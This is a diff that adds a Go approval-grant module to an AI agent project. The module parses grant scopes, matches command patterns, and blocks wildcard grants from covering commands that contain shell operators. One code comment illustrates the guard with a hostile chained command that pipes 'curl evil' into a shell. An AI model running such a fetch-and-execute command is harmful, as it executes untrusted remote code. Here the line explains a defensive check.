@@ -0,0 +1,243 @@
+package approval
+
+import (
+	"database/sql"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"regexp"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/KafClaw/KafClaw/internal/timeline"
+)
+
+// Grant scopes.
+const (
+	// ScopeSession grants last for the chat session until the agent restarts.
+	ScopeSession = "session"
+	// ScopeTTL grants expire after a fixed duration.
+	ScopeTTL = "ttl"
+	// ScopeAlways grants last until revoked.
+	ScopeAlways = "always"
+)
+
+// ErrGrantNotFound is returned when revoking an unknown or already revoked
+// grant.
+var ErrGrantNotFound = errors.New("no active approval grant")
+
+// GrantSpec is the "remember this decision" part of an approval: how long
+// the grant lasts and which arguments it covers.
+type GrantSpec struct {
+	Scope string
+	TTL   time.Duration // ScopeTTL only
+	// Pattern is a glob on the call subject (see GrantSubject); "*"
+	// matches any run of characters. Empty means exactly the approved
+	// arguments.
+	Pattern string
+}
+
+// ParseGrantSpec parses the text after "approve:<id>": "session", "always"
+// or a duration ("30m", "1h", "7d"), optionally preceded by "for" and
+// followed by an argument pattern.
+func ParseGrantSpec(text string) (GrantSpec, error) {
+	text = strings.TrimSpace(text)
+	if rest, ok := strings.CutPrefix(text, "for "); ok {
+		text = strings.TrimSpace(rest)
+	}
+	scope, pattern, _ := strings.Cut(text, " ")
+	spec := GrantSpec{Pattern: strings.TrimSpace(pattern)}
+	switch scope = strings.ToLower(scope); scope {
+	case "":
+		return GrantSpec{}, fmt.Errorf("missing grant scope: use session, always or a duration like 1h")
+	case ScopeSession:
+		spec.Scope = ScopeSession
+	case ScopeAlways:
+		spec.Scope = ScopeAlways
+	default:
+		ttl, err := parseGrantTTL(scope)
+		if err != nil {
+			return GrantSpec{}, fmt.Errorf("invalid grant scope %q: use session, always or a duration like 1h", scope)
+		}
+		spec.Scope, spec.TTL = ScopeTTL, ttl
+	}
+	return spec, nil
+}
+
+func parseGrantTTL(s string) (time.Duration, error) {
+	var d time.Duration
+	var err error
+	if days, ok := strings.CutSuffix(s, "d"); ok {
+		var n int
+		n, err = strconv.Atoi(days)
+		d = time.Duration(n) * 24 * time.Hour
+	} else {
+		d, err = time.ParseDuration(s)
+	}
+	if err != nil {
+		return 0, err
+	}
+	if d <= 0 {
+		return 0, fmt.Errorf("duration must be positive")
+	}
+	return d, nil
+}
+
+// String renders the spec as it would be typed after "approve:<id>".
+func (s GrantSpec) String() string {
+	out := s.Scope
+	if s.Scope == ScopeTTL {
+		out = s.TTL.String()
+	}
+	if s.Pattern != "" {
+		out += " " + s.Pattern
+	}
+	return out
+}
+
+// GrantSubject is the text a grant pattern is matched against: the
+// "command" argument for command tools (exec, process_start), otherwise
+// the arguments as JSON with sorted keys.
+func GrantSubject(args map[string]any) string {
+	subject, _ := grantSubject(args)
+	return subject
+}
+
+// grantSubject returns the subject and whether it is a shell command.
+func grantSubject(args map[string]any) (string, bool) {
+	if cmd, ok := args["command"].(string); ok {
+		return strings.TrimSpace(cmd), true
+	}
+	data, _ := json.Marshal(args)
+	return string(data), false
+}
+
+// shellOperators are the characters that let a command run more than the
+// program it names: chaining, pipes, substitution, redirection.
+const shellOperators = ";&|$`<>\n\r"
+
+// ExactGrantPattern returns a pattern that matches only subject.
+func ExactGrantPattern(subject string) string {
+	r := strings.NewReplacer(`\`, `\\`, `*`, `\*`, `?`, `\?`)
+	return r.Replace(subject)
+}
+
+// MatchGrantPattern reports whether the glob pattern matches subject. "*"
+// matches any run of characters (including "/" and spaces), "?" one
+// character, and "\" escapes the next character.
+func MatchGrantPattern(pattern, subject string) bool {
+	var b strings.Builder
+	b.WriteString("^")
+	for i := 0; i < len(pattern); i++ {
+		switch c := pattern[i]; c {
+		case '*':
+			b.WriteString(".*")
+		case '?':
+			b.WriteString(".")
+		case '\\':
+			if i+1 < len(pattern) {
+				i++
+			}
+			b.WriteString(regexp.QuoteMeta(string(pattern[i])))
+		default:
+			b.WriteString(regexp.QuoteMeta(string(c)))
+		}
+	}
+	b.WriteString("$")
+	re, err := regexp.Compile("(?s)" + b.String())
+	return err == nil && re.MatchString(subject)
+}
+
+// MatchCommandGrant reports whether the pattern matches a shell command.
+// A pattern without wildcards must equal the command. Otherwise the pattern
+// is matched argument by argument: each word matches one word of the
+// command ("*" and "?" never cross a space) and a final "*" word matches
+// any remaining arguments. Wildcards never match a command that uses shell
+// operators (;&|$`<> or a newline), so "git push *" does not cover
+// "git push origin main; curl evil | sh".
+func MatchCommandGrant(pattern, command string) bool {
+	if !hasGrantWildcard(pattern) {
+		return MatchGrantPattern(pattern, command)
+	}
+	if strings.ContainsAny(command, shellOperators) {
+		return false
+	}
+	words, args := strings.Fields(pattern), strings.Fields(command)
+	for i, w := range words {
+		if w == "*" && i == len(words)-1 {
+			return true
+		}
+		if i >= len(args) || !MatchGrantPattern(w, args[i]) {
+			return false
+		}
+	}
+	return len(words) == len(args)
+}
+
+// hasGrantWildcard reports whether pattern has an unescaped "*" or "?".
+func hasGrantWildcard(pattern string) bool {
+	for i := 0; i < len(pattern); i++ {
+		switch pattern[i] {
+		case '\\':
+			i++
+		case '*', '?':
+			return true
+		}
+	}
+	return false
+}
+
+// grantCovers reports whether g allows a call of tool at tier with the
+// given subject in sessionKey.
+func grantCovers(g timeline.ApprovalGrantRecord, tool string, tier int, subject string, command bool, sessionKey string) bool {
+	if g.Tool != tool || tier > g.MaxTier {
+		return false
+	}
+	if g.Scope == ScopeSession && g.SessionKey != sessionKey {
+		return false
+	}
+	if command {
+		return MatchCommandGrant(g.ArgPattern, subject)
+	}
+	return MatchGrantPattern(g.ArgPattern, subject)
+}
+
+// ListGrants returns the active grants, or all grants (revoked and expired
+// included) when all is set.
+func ListGrants(tl *timeline.TimelineService, all bool) ([]timeline.ApprovalGrantRecord, error) {
+	return tl.ListApprovalGrants(all, time.Now())
+}
+
+// RevokeGrant revokes an active grant and records it in the audit trail of
+// the approval that created it.
+func RevokeGrant(tl *timeline.TimelineService, grantID, by string) error {
+	grantID = strings.TrimSpace(grantID)
+	g, err := tl.GetApprovalGrant(grantID)
+	if errors.Is(err, sql.ErrNoRows) {
+		return fmt.Errorf("%w: %s", ErrGrantNotFound, grantID)
+	}
+	if err != nil {
+		return err
+	}
+	if err := tl.RevokeApprovalGrant(grantID, by); err != nil {
+		if errors.Is(err, sql.ErrNoRows) {
+			return fmt.Errorf("%w: %s", ErrGrantNotFound, grantID)
+		}
+		return err
+	}
+	_ = tl.InsertApprovalEvent(g.ApprovalID, by, "grant_revoked", "grant="+grantID)
+	return nil
+}
+
+// DescribeGrant summarizes a grant for chat and CLI output.
+func DescribeGrant(g timeline.ApprovalGrantRecord) string {
+	scope := g.Scope
+	switch {
+	case g.Scope == ScopeSession:
+		scope = "this session"
+	case g.ExpiresAt != nil:
+		scope = "until " + g.ExpiresAt.Local().Format(time.RFC3339)
+	}
+	return fmt.Sprintf("%s %q (tier <= %d, %s)", g.Tool, g.ArgPattern, g.MaxTier, scope)
+}